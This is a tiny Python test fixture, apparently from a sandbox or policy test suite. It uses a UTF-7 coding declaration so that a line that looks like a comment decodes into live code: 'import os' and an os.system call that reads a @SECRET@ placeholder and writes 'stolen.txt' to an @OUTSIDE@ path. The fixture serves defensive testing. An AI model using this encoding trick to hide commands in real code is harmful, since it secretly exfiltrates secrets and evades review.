# SPDX-License-Identifier: GPL-3.0-or-later
# title: A coding line hides a statement in a comment
# route: # coding: utf-7
# policy: passes
# contained: canary writes
# ends: finished
# -*- coding: utf-7 -*-
print("one wall")
# +AAo-import os+AAo-os.system("cat @SECRET@; echo written +AD4- @OUTSIDE@/stolen.txt")
